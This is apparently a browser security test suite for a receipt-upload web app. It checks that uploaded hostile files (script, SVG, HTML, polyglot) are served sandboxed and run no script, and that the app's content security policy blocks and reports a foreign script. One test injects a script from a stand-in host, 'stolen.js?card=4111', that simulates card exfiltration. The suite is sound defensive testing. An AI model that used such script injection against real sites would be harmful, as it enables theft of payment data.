/** A real browser runs no script from hostile receipts or other sites (reliability T13). */
import { expect, it } from "vitest";
import { receiptCorpus } from "../support/receipt-corpus.ts";
import { openStage, signIn } from "./browser.ts";

const stage = await openStage();

it("a browser runs no script in any stored file, opened directly or shown in a page", async () => {
	const hostile = receiptCorpus().filter(
		({ what, bytes, expected }) =>
			typeof expected !== "string" &&
			!expected.isNotShown &&
			(/script|html|svg|php|polyglot|pdf/i.test(what) ||
				/<script|javascript/i.test(new TextDecoder("latin1").decode(bytes))),
	);
	expect(hostile.length).toBeGreaterThan(10);
	const client = await stage.fleet.as("dana");
	// A separate context, because the browser's own image page correctly logs that the sandbox
	// removed its styles.
	const context = await stage.browser.newContext({ baseURL: stage.fleet.origin });
	const page = await context.newPage();
	await signIn(page, "dana@milepost.test");
	let opened = 0;
	let ran = 0;
	page.on("dialog", (dialog) => {
		ran += 1;
		void dialog.dismiss();
	});
	for (const { bytes, givenName } of hostile) {
		// Keeps the daily quota from running out.
		await stage.fleet.sql("update receipts set created_at = 0");
		const form = new FormData();
		form.append("receipt", new File([new Uint8Array(bytes)], givenName || "receipt"));
		const encoded = new Request("http://form/", { method: "POST", body: form });
		const made = await client.request("/api/receipts", {
			method: "POST",
			headers: { "Content-Type": encoded.headers.get("Content-Type") ?? "" },
			body: Buffer.from(await encoded.arrayBuffer()) as unknown as string,
		});
		if (made.status !== 201) continue;
		const { receiptUrl, mediaType } = JSON.parse(made.text) as {
			receiptUrl: string;
			mediaType: string;
		};
		if (mediaType === "application/pdf") {
			const [download] = await Promise.all([
				page.waitForEvent("download"),
				page.goto(receiptUrl).catch(() => undefined),
			]);
			expect(download.suggestedFilename()).toMatch(/^receipt-[\w-]+\.pdf$/);
		} else {
			const answer = await page.goto(receiptUrl);
			expect(answer?.headers()["content-security-policy"]).toBe("default-src 'none'; sandbox");
			expect(answer?.headers()["x-content-type-options"]).toBe("nosniff");
			expect(await page.evaluate(() => document.images.length)).toBe(1);
		}
		opened += 1;
	}
	await context.close();
	console.log(`hostile receipts opened in Chromium: ${opened}, scripts run: ${ran}`);
	expect(opened).toBeGreaterThan(10);
	expect(ran).toBe(0);
});

it("our page blocks another site's script, and reports it", async () => {
	const context = await stage.browser.newContext({ baseURL: stage.fleet.origin });
	const page = await context.newPage();
	await signIn(page, "dana@milepost.test");
	// In private windows, which tests use, Chromium doesn't send what `report-to` asks for, and then
	// ignores `report-uri`. So only the directive that other browsers follow is left in the header.
	await page.route("/mileage?*", async (route) => {
		const response = await route.fetch();
		const headers = response.headers();
		const policy = (headers["content-security-policy"] ?? "").replace("; report-to csp", "");
		await route.fulfill({ response, headers: { ...headers, "content-security-policy": policy } });
	});
	await page.goto("/mileage?notes=private");
	const isRun = await page.evaluate(
		() =>
			new Promise((resolve) => {
				const script = document.createElement("script");
				script.onload = () => resolve(true);
				script.onerror = () => resolve(false);
				script.src = "http://other.localhost:1/stolen.js?card=4111";
				document.head.appendChild(script);
			}),
	);
	expect(isRun).toBe(false);
	const reported = () => stage.fleet.lines.filter((line) => line.includes('"csp":'));
	await expect.poll(() => reported().length, { timeout: 30_000 }).toBe(1);
	expect(JSON.parse(reported()[0] ?? "").csp).toEqual({
		directive: "script-src-elem",
		blocked: "http://other.localhost:1",
		path: "/mileage",
	});
	await context.close();
});
